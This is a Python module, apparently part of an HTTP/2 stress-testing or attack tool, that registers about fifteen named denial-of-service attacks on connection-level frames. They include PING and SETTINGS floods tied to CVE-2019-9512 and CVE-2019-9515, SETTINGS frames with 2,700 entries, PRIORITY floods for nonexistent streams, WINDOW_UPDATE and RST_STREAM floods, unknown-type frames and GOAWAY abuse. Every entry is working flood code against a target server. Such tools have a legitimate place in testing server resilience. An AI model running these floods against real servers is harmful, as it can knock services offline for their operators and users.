"""Attacks with frames that concern the connection: PING, SETTINGS, PRIORITY, WINDOW_UPDATE, GOAWAY, unknown ones."""

from frames import (ENABLE_PUSH, GOAWAY, INITIAL_WINDOW_SIZE, MAX_CONCURRENT_STREAMS, MAX_FRAME_SIZE, PING, PRIORITY, SESSION,
                    frame, headers, request, reset, settings, window_update)
from table import attack


@attack("ping", "PING frames (CVE-2019-9512)")
def _(connection):
    connection.greet()
    connection.flood(frame(PING, 0, 0, b"muster!!"))


@attack("ping-unread", "PING frames, whose answers are not read")
def _(connection):
    connection.is_read = False
    connection.greet()
    connection.flood(frame(PING, 0, 0, b"muster!!"))


@attack("settings", "SETTINGS frames without an entry (CVE-2019-9515)")
def _(connection):
    connection.greet()
    connection.flood(settings())


@attack("settings-unread", "SETTINGS frames, whose acknowledgements are not read")
def _(connection):
    connection.is_read = False
    connection.greet()
    connection.flood(settings())


@attack("settings-entries", "SETTINGS frames of 2,700 entries")
def _(connection):
    connection.greet()
    entries = [(MAX_CONCURRENT_STREAMS, 100), (MAX_FRAME_SIZE, 16384), (ENABLE_PUSH, 0)] * 900
    connection.flood(settings(*entries))


@attack("settings-windows", "SETTINGS that move the windows of 100 open streams up and down")
def _(connection):
    connection.greet()
    for number in range(100):
        connection.send(headers(2 * number + 1, request(SESSION, connection.is_tls)))
    connection.flood(settings((INITIAL_WINDOW_SIZE, 0)) + settings((INITIAL_WINDOW_SIZE, 1_000_000)))


@attack("priority", "PRIORITY frames of streams that are not there")
def _(connection):
    connection.greet()
    connection.flood(b"".join(frame(PRIORITY, 0, 2 * number + 1, (2 * number + 3).to_bytes(4, "big") + b"\xff")
                              for number in range(5_000)))


@attack("window-update-stream", "WINDOW_UPDATE frames by 1 of an open stream")
def _(connection):
    connection.greet()
    connection.send(headers(1, request(SESSION, connection.is_tls)))
    connection.flood(window_update(1, 1))


@attack("window-update-connection", "WINDOW_UPDATE frames by 1 of the connection")
def _(connection):
    connection.greet()
    connection.flood(window_update(0, 1))


@attack("resets-of-nothing", "RST_STREAM frames of streams that are over")
def _(connection):
    connection.greet()
    connection.send(headers(1, request(SESSION, connection.is_tls)) + reset(1))
    connection.flood(reset(1))


@attack("unknown-frames", "frames of types that nobody knows")
def _(connection):
    connection.greet()
    connection.flood(b"".join(frame(kind, 0, 0, b"muster") for kind in range(0x20, 0xff)))


@attack("unknown-frames-large", "the same with 16 KiB each")
def _(connection):
    connection.greet()
    connection.flood(frame(0xbe, 0, 0, bytes(16384)))


@attack("goaway", "GOAWAY frames")
def _(connection):
    connection.greet()
    connection.flood(frame(GOAWAY, 0, 0, bytes(8)))


@attack("goaway-debug-data", "GOAWAY frames with 16 kB of what they call debug data")
def _(connection):
    connection.greet()
    connection.flood(frame(GOAWAY, 0, 0, bytes(8) + b"v" * 16_000))


@attack("goaway-and-on", "GOAWAY, and then streams as if it had not been said; each on a new connection")
def _(connection):
    connection.greet()
    connection.send(frame(GOAWAY, 0, 0, bytes(8)))
    connection.send(b"".join(headers(2 * number + 1, request(SESSION, connection.is_tls)) for number in range(100)))
    connection.hold(0.2)
